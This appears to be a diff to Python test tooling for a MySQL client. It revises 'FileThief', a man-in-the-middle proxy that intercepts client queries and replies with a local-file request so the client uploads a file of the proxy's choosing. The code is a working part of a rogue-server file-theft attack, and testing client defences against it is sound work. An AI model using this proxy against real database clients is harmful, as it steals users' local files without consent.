@@ -21,8 +21,8 @@ CAPABILITIES = 0x81BFF7FF & ~0x0800
 SALT = b"12345678901234567890"
 PATIENCE = 20.0
 
-Turn = Callable[[int, bytes], str]
-"""The file to ask for in reply to a statement, by its number and text; empty to pass it on."""
+Turn = Callable[[bytes], str]
+"""The file to ask for in reply to a statement; empty to pass it on."""
 
 
 def packet(number: int, payload: bytes) -> bytes:
@@ -66,13 +66,14 @@ class _Listener:
 
 class FileThief(_Listener):
     """Stands before a real server and answers the statements that `turn` picks by asking for a local file.
-    `statements` are all that came; `got` is what the client sent after it was asked."""
+    `statements` are all that came; `asked` says whether it did; `got` is what the client sent after it was asked."""
 
     def __init__(self, url: str, turn: Turn) -> None:
         split = urlsplit(url)
         self._server = (split.hostname or "", split.port or 0)
         self._turn = turn
         self.statements: list[bytes] = []
+        self.asked = False
         self.got = b""
         super().__init__()
         self.url = changed(url, host="127.0.0.1", port=self.port)
@@ -95,16 +96,17 @@ class FileThief(_Listener):
             payload = reader.read(int.from_bytes(header[:3], "little"))
             if header[3] == 0 and payload[:1] == QUERY:
                 self.statements.append(payload[1:])
-                if wanted := self._turn(len(self.statements) - 1, payload[1:]):
+                if wanted := self._turn(payload[1:]):
+                    self.asked = True
                     client.sendall(packet(1, LOCAL_FILE + wanted.encode()))
                     self.got += self._answer(reader)
                     return
             server.sendall(header + payload)
 
     def _answer(self, reader: BinaryIO) -> bytes:
-        """All that comes until the client hangs up, or ends the file with an empty packet."""
+        """All that comes until the client hangs up, ends the file with an empty packet, or gives the next command."""
         told = b""
-        while len(header := reader.read(HEADER)) == HEADER:
+        while len(header := reader.read(HEADER)) == HEADER and header[3] != 0:
             payload = reader.read(int.from_bytes(header[:3], "little"))
             told += header + payload
             if not payload:
